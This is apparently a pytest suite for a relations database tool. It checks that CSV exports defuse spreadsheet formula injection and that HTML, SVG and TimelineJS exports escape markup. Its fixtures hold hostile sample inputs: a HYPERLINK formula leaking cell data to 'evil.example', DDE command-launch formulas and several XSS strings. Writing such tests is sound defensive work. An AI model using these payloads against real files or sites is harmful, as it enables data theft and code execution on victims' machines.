"""Exports are safe to open: CSV cells that a spreadsheet would run as a formula (`=`, `+`,
`-`, `@`, tab, carriage return) come out inert while numbers stay numbers, and HTML, SVG
and TimelineJS output escape every text from the data."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from relations_db.cli import cli
from relations_db.output.formats import inert

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1",
    "+",
    "-",
    "@",
    "=-1",
    "- 3",
]
NUMBERS = ["-3", "+4", "-0.5", "1e5", "-1.5E-3", "+.5", "42"]
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "<!-- x --> & <b>bold</b>",
    "]]><x/>",
]
QUOTES = ['Tom & Jerry\'s "quoted" <talks>', "a'b\"c&d<e>f"]


def _document() -> dict:
    titles = FORMULAS + NUMBERS + MARKUP + QUOTES
    officials = [
        {"id": "formula-official", "name": "=EVIL()", "country": "US"},
        {"id": "markup-official", "name": "<b onmouseover=alert(5)>Markup</b>", "country": "CN"},
    ]
    meetings = []
    for i, title in enumerate(titles):
        meetings.append(
            {
                "id": f"safety-{i:02d}",
                "title": title,
                "date": f"2023-06-{i % 28 + 1:02d}",
                "date_text": FORMULAS[i % len(FORMULAS)],
                "location": {
                    "place": MARKUP[i % len(MARKUP)] if i % 2 else "@Beijing",
                    "country": "CN",
                },
                "participants": [
                    {"official": "formula-official", "role": "guest"},
                    {"official": "markup-official", "role": "host"},
                    {"description": "-counterpart+1", "country": "CN"},
                ],
            }
        )
    return {"officials": officials, "meetings": meetings}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("export-safety")
    url = f"sqlite:///{folder / 'relations.db'}"
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(_document(), allow_unicode=True), encoding="utf-8")
    result = CliRunner().invoke(cli, ["--db", url, "ingest", str(path)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return url


def _run(url: str, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--db", url, *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


CSV_COMMANDS = [["timeline", "--format", "csv"], ["export", "--format", "csv"]]


def test_csv_cells_are_inert_and_numbers_untouched(hostile_db):
    truth = {row["id"]: row for row in json.loads(_run(hostile_db, "timeline", "--format", "json"))}
    assert len(truth) == len(FORMULAS + NUMBERS + MARKUP + QUOTES)
    for command in CSV_COMMANDS:
        rows = list(csv.DictReader(io.StringIO(_run(hostile_db, *command))))
        assert {r["id"] for r in rows} == set(truth), command
        for row in rows:
            for column, cell in row.items():
                if cell.startswith(TRIGGERS):
                    assert NUMBER.match(cell), f"{command}: live formula in {column}: {cell!r}"
            title = truth[row["id"]]["title"]
            if title.startswith(TRIGGERS) and not NUMBER.match(title):
                assert row["title"] == "'" + title
            else:
                assert row["title"] == title
            assert row["participants"].startswith("'=EVIL() (US)")
            assert row["date_text"].startswith("'")


def _first_visible(cell: str) -> str:
    """What a spreadsheet reads first: past format characters (soft hyphen, zero-width
    space, BOM) and spaces, in compatibility form (a fullwidth ＝ is =)."""
    import unicodedata

    for char in cell:
        if char in "\t\r" or unicodedata.category(char) not in ("Cf", "Zs"):
            return unicodedata.normalize("NFKC", char)
    return ""


@given(st.text(max_size=20) | st.sampled_from(FORMULAS + NUMBERS + ["\xad\t1", "\u200b=1"]))
def test_inert_rule(cell):
    out = inert(cell)
    if _first_visible(cell).startswith(TRIGGERS) and not NUMBER.match(cell):
        assert out == "'" + cell
    else:
        assert out == cell
    assert not out.startswith(TRIGGERS) or NUMBER.match(out)


@pytest.mark.parametrize("fmt", ["html", "svg", "timelinejs"])
def test_drawings_escape_all_data(hostile_db, fmt):
    out = _run(hostile_db, "export", "--format", fmt)
    for payload in [*MARKUP, "<b onmouseover=alert(5)>Markup</b>", *QUOTES]:
        assert payload not in out, f"{fmt}: {payload!r} written verbatim"
    # Every event is drawn (so the checks above looked at the data), escaped.
    assert out.count("alert(1)") >= 1
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out or "\\u003cscript\\u003ealert(1)" in out


CELLS = st.none() | st.text(max_size=12) | st.sampled_from(FORMULAS + NUMBERS + QUOTES + [""])


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=6), st.integers(1, 4))
def test_csv_batches_are_the_bytes_csv_writer_gives_inert_cells(rows, size):
    """The column-at-a-time CSV of text cells says exactly what csv.writer says given
    `inert(cell(value))` for each value: same quoting, same inert cells, NULL as empty."""
    from relations_db.output.formats import cell, write_csv_batches

    columns = ["a", "b", "c"]
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\n")
    writer.writerow(columns)
    writer.writerows([inert(cell(value)) for value in row] for row in rows)
    batches = [rows[i : i + size] for i in range(0, len(rows), size)]
    written = io.StringIO()
    assert write_csv_batches(batches, columns, written) == len(rows)
    assert written.getvalue() == expected.getvalue()
